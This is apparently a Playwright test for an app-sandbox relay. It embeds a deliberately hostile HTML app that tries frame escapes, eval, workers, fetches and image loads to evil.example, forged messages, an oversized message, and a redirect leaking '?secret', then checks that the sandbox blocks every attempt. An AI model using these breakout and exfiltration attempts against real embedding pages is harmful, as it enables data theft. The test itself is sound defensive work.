import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "@playwright/test";
import { createRelay } from "../relay/server.ts";
import { appPolicy } from "../shared/apps/policy.ts";
import { locateSandbox } from "../shared/apps/sandbox.ts";
import { sandboxPage } from "../shared/apps/sandboxPage.ts";
import { metaContentSecurityPolicy } from "../shared/relay/page/securityHeaders.ts";

/** An app that tries what it must not be able to do, and says what came of it. */
const hostile = `<!doctype html><title>Hostile</title><h1>Hello</h1><script>
const say = (data) => parent.postMessage({ jsonrpc: "2.0", method: "notifications/message", params: { level: "info", data } }, "*");
const attempt = (name, act) => { try { say([name, String(act())]); } catch (error) { say([name, error.name]); } };
say(["origin", self.origin === "null" ? "opaque" : "own"]);
attempt("read top", () => top.location.href);
attempt("read page", () => top.document.title);
attempt("navigate top", () => { top.location = "https://evil.example/"; });
attempt("open", () => open("https://evil.example/"));
attempt("eval", () => eval("1"));
attempt("worker", () => new Worker("data:text/javascript,1"));
fetch("https://evil.example/fetch").catch(() => say(["fetch", "failed"]));
new Image().src = "https://evil.example/image.png";
parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-proxy-ready" }, "*");
parent.postMessage({ big: "a".repeat(2e7) }, "*");
addEventListener("message", ({ data }) => say(["got", data.method]));
console.error("broken");
setTimeout(() => { location.href = "https://evil.example/?secret"; }, 500);
</script>`;

for (const mode of ["isolated", "opaque"] as const) {
  test(`a hostile app at an ${mode} origin reaches nothing`, async ({ page }) => {
    const pageDir = mkdtempSync(join(tmpdir(), "app-sandbox-"));
    const meta = `<meta http-equiv="Content-Security-Policy" content="${metaContentSecurityPolicy([])}">`;
    writeFileSync(join(pageDir, "index.html"), `<!doctype html>${meta}<title>Page</title>`);
    writeFileSync(join(pageDir, "sandbox.html"), sandboxPage(false));
    const relay = await createRelay({ port: 0, pageDir });
    const contacted: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      contacted.push(route.request().url());
      return route.abort();
    });
    try {
      await page.goto(`${relay.origin}/`);
      const apps = await page.evaluate(() => {
        const [entry] = performance.getEntriesByType("navigation") as PerformanceNavigationTiming[];
        return entry?.serverTiming.find(({ name }) => name === "apps")?.description;
      });
      expect(apps).toContain("http://*.localhost:");
      const policy = appPolicy({}, "specification");
      const place = await locateSandbox({
        appsOrigin: mode === "isolated" ? apps : undefined,
        page: `${relay.origin}/`,
        policy,
        secret: "secret",
        server: "server",
        uri: "ui://hostile",
      });
      const messages = await page.evaluate(
        async ({ place: { url, sandbox, eventOrigin, targetOrigin }, html, text }) => {
          const received: string[] = [];
          const frame = document.createElement("iframe");
          const send = (method: string, params: object) =>
            frame.contentWindow?.postMessage(
              JSON.stringify({ jsonrpc: "2.0", method, params }),
              targetOrigin,
            );
          const over = new Promise<void>((resolve) => {
            addEventListener("message", ({ source, origin, data }) => {
              if (source !== frame.contentWindow || origin !== eventOrigin) return;
              received.push(data);
              if (received.length === 1) {
                send("ui/notifications/sandbox-resource-ready", { html, policy: text });
              }
              if (data.includes('"document-loaded"')) send("ui/hello", {});
              if (data.includes('"navigated"')) resolve();
            });
          });
          frame.setAttribute("sandbox", sandbox);
          frame.src = url;
          document.body.append(frame);
          await over;
          return received;
        },
        { place, html: hostile, text: policy.text },
      );
      const parsed = messages.map((text) => JSON.parse(text));
      const said = Object.fromEntries(
        parsed.flatMap(({ method, params }) =>
          method === "notifications/message" ? [params.data] : [],
        ),
      );
      expect(said).toEqual({
        origin: mode === "isolated" ? "own" : "opaque",
        "read top": "SecurityError",
        "read page": "SecurityError",
        "navigate top": "SecurityError",
        open: "null",
        eval: "EvalError",
        worker: expect.stringMatching(/Error|object Worker/),
        fetch: "failed",
        got: "ui/hello",
      });
      // only the sandbox page itself said that it is ready, and the large message was not passed on
      const methods = parsed.map(({ method }) => method);
      expect(methods.filter((name) => name?.endsWith("sandbox-proxy-ready"))).toHaveLength(1);
      expect(Math.max(...messages.map(({ length }) => length))).toBeLessThan(10_000);
      const reports = parsed
        .filter(({ method }) => method === "ui/notifications/sandbox-report")
        .map(({ params }) => params);
      const blocked = (directive: string) =>
        expect.objectContaining({ kind: "blocked", directive, disposition: "enforce" });
      expect(reports).toEqual(
        expect.arrayContaining([
          ...["connect-src", "img-src", "script-src", "frame-src"].map(blocked),
          expect.objectContaining({ kind: "console", text: "broken" }),
          { kind: "too-large", length: 20_000_010 },
          { kind: "navigated" },
        ]),
      );
      expect(contacted).toEqual([]);
      expect(page.url()).toBe(`${relay.origin}/`);
    } finally {
      await relay.close();
    }
  });
}
